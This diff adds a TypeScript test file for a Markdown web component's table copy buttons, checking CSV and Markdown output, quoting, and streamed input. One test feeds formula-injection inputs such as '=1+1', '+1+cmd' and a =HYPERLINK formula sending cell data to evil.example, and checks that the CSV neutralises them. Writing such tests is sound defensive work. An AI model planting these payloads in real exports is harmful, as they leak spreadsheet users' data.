@@ -1,0 +1,87 @@
+import {expect} from '@open-wc/testing';
+import type {UbikMarkdown} from '../../../../src/elements/ubik-markdown/ubik-markdown.js';
+import {all, has} from '../../support/dom.js';
+import {instead} from '../../support/instead.js';
+import {start, stream} from '../../support/markdown.js';
+
+const table = `| City | Note |
+| :-- | --: |
+| Praha | a \\| b |
+| "Ústí", nad Labem | **bold** |
+`;
+
+/** What the button with this name puts on the clipboard. */
+async function copied(element: UbikMarkdown, name: string): Promise<string> {
+  let text = '';
+  const writeText = (words: string): Promise<void> => {
+    text = words;
+    return Promise.resolve();
+  };
+  await instead(navigator, 'clipboard', {writeText}, () => {
+    all(element, '.table button')
+      .find(({ariaLabel}) => ariaLabel === name)
+      ?.click();
+  });
+  return text;
+}
+
+describe('a table in Markdown', () => {
+  it('can be copied as CSV, with quotes where they are needed', async () => {
+    expect(await copied(await stream([table]), 'Copy as CSV')).to.equal(
+      'City,Note\r\nPraha,a | b\r\n"""Ústí"", nad Labem",bold',
+    );
+  });
+
+  it('is copied as CSV without a formula that a spreadsheet would run', async () => {
+    const cells = [
+      '=1+1',
+      '+1+cmd',
+      '-1+2',
+      '@SUM(A1)',
+      '-5',
+      '+3.14',
+      '-1,234.50',
+      '1e-5',
+      '-',
+      'a=b',
+    ];
+    const element = await stream([`|a|b|\n|-|-|\n${cells.map(cell => `|${cell}|x|\n`).join('')}`]);
+    expect((await copied(element, 'Copy as CSV')).split('\r\n').slice(1)).to.deep.equal([
+      "'=1+1,x",
+      "'+1+cmd,x",
+      "'-1+2,x",
+      "'@SUM(A1),x",
+      '-5,x',
+      '+3.14,x',
+      '"-1,234.50",x',
+      '1e-5,x',
+      '-,x',
+      'a=b,x',
+    ]);
+    const formula = await stream(['|a|\n|-|\n|=HYPERLINK("https://evil.example/?"&A1,"ok")|\n']);
+    expect(await copied(formula, 'Copy as CSV')).to.equal(
+      'a\r\n"\'=HYPERLINK(""https://evil.example/?""&A1,""ok"")"',
+    );
+  });
+
+  it('can be copied as the Markdown that it was', async () => {
+    expect(await copied(await stream([table]), 'Copy as Markdown')).to.equal(
+      '| City | Note |\n| :-- | --: |\n| Praha | a \\| b |\n| "Ústí", nad Labem | **bold** |',
+    );
+  });
+
+  it('can be copied once it is whole, also when it came piece by piece', async () => {
+    const element = await start();
+    element.text = table;
+    await element.updateComplete;
+    expect(has(element, '.table button')).to.be.false;
+    element.text += '\nThe end.';
+    await element.updateComplete;
+    expect(all(element, '.table button')).to.have.length(2);
+    element.text += ' Really.';
+    element.streaming = false;
+    await element.updateComplete;
+    expect(all(element, '.table button')).to.have.length(2);
+    await expect(element).to.be.accessible();
+  });
+});
